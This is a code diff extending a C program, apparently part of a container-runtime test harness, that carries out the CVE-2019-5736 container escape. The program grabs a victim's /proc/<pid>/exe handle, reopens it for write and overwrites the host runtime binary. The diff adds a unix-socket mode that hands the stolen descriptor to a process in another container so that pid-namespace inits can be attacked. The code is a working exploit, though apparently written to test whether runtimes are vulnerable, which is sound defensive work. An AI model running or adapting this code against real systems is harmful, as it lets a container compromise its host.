@@ -1,7 +1,8 @@
 /* exe_attack: the CVE-2019-5736 attack as published, from inside a container, against
  * whatever the runtime left reachable through /proc/<pid>/exe.
  *
- *   exe_attack FIFO
+ *   exe_attack FIFO [SOCK]
+ *   exe_attack --send SOCK
  *
  * Makes the fifo FIFO and prints "ready". A victim, started by the test, is a process that
  * executes /proc/self/exe (directly or as a script's interpreter) while its image is still
@@ -15,8 +16,14 @@
  *
  *   exe=<link> open=<ok|ERRNO> setattr=<ok|ERRNO|-> reopen=<ok|ERRNO|-> write=<ok|ERRNO|->
  *
- * then "done". Exit 0 once the report is printed, 1 when no victim came. Built static: the
- * busybox rootfs has no libc. */
+ * then "done". With SOCK it does not look for the victim itself: it listens on the unix
+ * socket SOCK and takes the handle from `exe_attack --send SOCK`, which finds the victim
+ * as above in a container of its own, connects to SOCK and passes the handle (SCM_RIGHTS).
+ * That is how an init in a pid namespace of its own is attacked: the process that sees it
+ * dies with it, the handle lives on in another container.
+ *
+ * Exit 0 once the report is printed (or the handle sent), 1 when no victim came. Built
+ * static: the busybox rootfs has no libc. */
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
@@ -27,7 +34,9 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/stat.h>
+#include <sys/socket.h>
 #include <sys/syscall.h>
+#include <sys/un.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -142,30 +151,80 @@ static const char *clear_read_only(int handle)
 	return "ok";
 }
 
-int main(int argc, char **argv)
+static int unix_socket(const char *path, struct sockaddr_un *addr)
 {
-	if (argc != 2) {
-		fprintf(stderr, "usage: exe_attack FIFO\n");
-		return 2;
-	}
-	if (mkfifo(argv[1], 0666) < 0 && errno != EEXIST) {
-		perror("mkfifo");
+	memset(addr, 0, sizeof(*addr));
+	addr->sun_family = AF_UNIX;
+	snprintf(addr->sun_path, sizeof(addr->sun_path), "%s", path);
+	return socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+}
+
+/* The handle, from one connection to SOCK; -1 when none came. */
+static int receive_handle(const char *sock)
+{
+	struct sockaddr_un addr;
+	int s = unix_socket(sock, &addr);
+	if (s < 0 || bind(s, (struct sockaddr *)&addr, sizeof(addr)) < 0 || listen(s, 1) < 0)
+		return -1;
+	printf("ready\n");
+	int c = accept4(s, NULL, NULL, SOCK_CLOEXEC);
+	close(s);
+	if (c < 0)
+		return -1;
+	char byte, control[CMSG_SPACE(sizeof(int))];
+	struct iovec iov = {&byte, 1};
+	struct msghdr msg = {.msg_iov = &iov,
+			     .msg_iovlen = 1,
+			     .msg_control = control,
+			     .msg_controllen = sizeof(control)};
+	int fd = -1;
+	struct cmsghdr *cm = recvmsg(c, &msg, MSG_CMSG_CLOEXEC) == 1 ? CMSG_FIRSTHDR(&msg) : NULL;
+	if (cm && cm->cmsg_type == SCM_RIGHTS)
+		memcpy(&fd, CMSG_DATA(cm), sizeof(fd));
+	close(c);
+	return fd;
+}
+
+static int send_handle(const char *sock, int handle)
+{
+	struct sockaddr_un addr;
+	int s = unix_socket(sock, &addr);
+	if (s < 0 || connect(s, (struct sockaddr *)&addr, sizeof(addr)) < 0) {
+		perror("connect");
 		return 1;
 	}
-	setvbuf(stdout, NULL, _IONBF, 0);
-	printf("ready\n");
+	char byte = 'h', control[CMSG_SPACE(sizeof(int))] = {0};
+	struct iovec iov = {&byte, 1};
+	struct msghdr msg = {.msg_iov = &iov,
+			     .msg_iovlen = 1,
+			     .msg_control = control,
+			     .msg_controllen = sizeof(control)};
+	struct cmsghdr *cm = CMSG_FIRSTHDR(&msg);
+	cm->cmsg_level = SOL_SOCKET;
+	cm->cmsg_type = SCM_RIGHTS;
+	cm->cmsg_len = CMSG_LEN(sizeof(int));
+	memcpy(CMSG_DATA(cm), &handle, sizeof(handle));
+	int rc = sendmsg(s, &msg, 0) == 1 ? 0 : 1;
+	close(s);
+	return rc;
+}
+
+static int wait_for_victim(void)
+{
 	int handle = -1;
 	for (int i = 0; i < POLL_TRIES && handle < 0; i++, pause_10ms())
 		handle = grab_victim_exe();
-	if (handle < 0) {
-		printf("no victim\n");
-		return 1;
-	}
+	return handle;
+}
+
+/* Everything after the handle is had: release, wait, reopen, write, report. */
+static void attack(int handle, const char *fifo)
+{
 	char proc[64], link[256] = "?";
 	snprintf(proc, sizeof(proc), "/proc/self/fd/%d", handle);
 	ssize_t n = readlink(proc, link, sizeof(link) - 1);
 	link[n > 0 ? n : 1] = '\0';
-	release_victim(argv[1]);
+	release_victim(fifo);
 
 	int fd = reopen_for_write(handle);
 	const char *open_result = fd >= 0 ? "ok" : errno_name(errno);
@@ -178,5 +237,34 @@ int main(int argc, char **argv)
 	}
 	printf("exe=%s open=%s setattr=%s reopen=%s write=%s\ndone\n", link, open_result, setattr,
 	       reopen, written);
+}
+
+int main(int argc, char **argv)
+{
+	setvbuf(stdout, NULL, _IONBF, 0);
+	if (argc == 3 && strcmp(argv[1], "--send") == 0) {
+		int handle = wait_for_victim();
+		return handle < 0 ? 1 : send_handle(argv[2], handle);
+	}
+	if (argc != 2 && argc != 3) {
+		fprintf(stderr, "usage: exe_attack FIFO [SOCK] | exe_attack --send SOCK\n");
+		return 2;
+	}
+	if (mkfifo(argv[1], 0666) < 0 && errno != EEXIST) {
+		perror("mkfifo");
+		return 1;
+	}
+	int handle;
+	if (argc == 3) {
+		handle = receive_handle(argv[2]);
+	} else {
+		printf("ready\n");
+		handle = wait_for_victim();
+	}
+	if (handle < 0) {
+		printf("no victim\n");
+		return 1;
+	}
+	attack(handle, argv[1]);
 	return 0;
 }
